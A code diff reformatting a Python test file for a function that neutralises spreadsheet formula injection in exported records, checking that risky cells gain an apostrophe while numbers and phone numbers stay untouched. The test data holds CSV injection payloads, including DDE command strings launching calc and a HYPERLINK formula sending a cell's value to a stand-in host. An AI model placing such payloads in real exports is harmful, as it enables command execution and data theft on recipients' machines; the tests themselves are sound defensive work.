@@ -14,8 +14,14 @@ from pipelines.schema import Schema
 TRIGGERS = "=+-@\t\r"
 SCHEMA = Schema(
     "acuerdos",
-    {"fields": [{"name": "acuerdo_id", "type": "string"}, {"name": "texto", "type": "string"}, {"name": "monto", "type": "number"}]},
-)  # fmt: skip
+    {
+        "fields": [
+            {"name": "acuerdo_id", "type": "string"},
+            {"name": "texto", "type": "string"},
+            {"name": "monto", "type": "number"},
+        ]
+    },
+)
 any_text = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from([*TRIGGERS, "'", "'=", "＝"]), st.text()))
 
 
@@ -31,10 +37,11 @@ def table(*records: tuple[str, str, str]) -> Tabla:
 @pytest.mark.parametrize(
     "text",
     [
-        "=1+1", '=HYPERLINK("http://malo.example?x="&A1,"Ver")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
-        "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "+1+A1", "-1-1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(A1)", "=", "+", "@",
-        "- Elaborar el padrón", "-A1", "+52 777 329 2200+A1", "-1e", "=-1", "+52", "-(1)", "--1", "@gobmx",
-    ][:-4] + ["-(1)", "--1", "@gobmx"],
+        "=1+1", '=HYPERLINK("http://malo.example?x="&A1,"Ver")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
+        "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+A1", "-1-1", "\t=1+1", "\r=1+1", "\n=1+1",
+        "＝1+1", "＠SUM(A1)", "=", "+", "@", "=-1", "-A1", "-(1)", "--1", "-1e", "+52 777 329 2200+A1",
+        "- Elaborar el padrón", "@gobmx",
+    ],
 )  # fmt: skip
 def test_what_may_run_gets_an_apostrophe(text: str) -> None:
     assert neutralise(text) == f"'{text}"
@@ -43,20 +50,30 @@ def test_what_may_run_gets_an_apostrophe(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "", "Obra", "1+1", "a=b", "'=1+1", "-5", "+5", "-1234.50", "-1,234.50", "-$1,234.50", "- 5", "-.5", "-5%", "-5 %", "+1e10", "-1E-05",
-        "-", "--", "-–—", "- -", "+52 777 329 2200", "+527773292200", "+52-777-329-2200", "+1 (212) 555-0100", "−5", "–5 obras", "+52",
+        "", "Obra", "1+1", "a=b", "'=1+1", "-5", "+5", "-1234.50", "-1,234.50", "-$1,234.50", "- 5", "-.5", "-5%",
+        "-5 %", "+1e10", "-1E-05", "−5", "–5 obras", "-", "--", "-–—", "- -",
+        "+52", "+52 777 329 2200", "+527773292200", "+52-777-329-2200", "+1 (212) 555-0100",
     ],
 )  # fmt: skip
 def test_what_runs_nothing_stays(text: str) -> None:
     assert neutralise(text) == text
 
 
-@given(st.one_of(st.integers(), st.decimals(allow_nan=False, allow_infinity=False), st.floats(allow_nan=False, allow_infinity=False)))
+@given(
+    st.one_of(
+        st.integers(),
+        st.decimals(allow_nan=False, allow_infinity=False),
+        st.floats(allow_nan=False, allow_infinity=False),
+    )
+)
 def test_a_number_never_changes(number: object) -> None:
     assert neutralise(str(number)) == str(number)
 
 
-@given(st.decimals(allow_nan=False, allow_infinity=False, places=2), st.sampled_from(["{:,}", "{:+,}", "{:+}", "{:.2f}", "{:+.2%}", "{:e}"]))
+@given(
+    st.decimals(allow_nan=False, allow_infinity=False, places=2),
+    st.sampled_from(["{:,}", "{:+,}", "{:+}", "{:.2f}", "{:+.2%}", "{:e}"]),
+)
 def test_a_formatted_number_never_changes(number: object, form: str) -> None:
     assert neutralise(form.format(number)) == form.format(number)
 
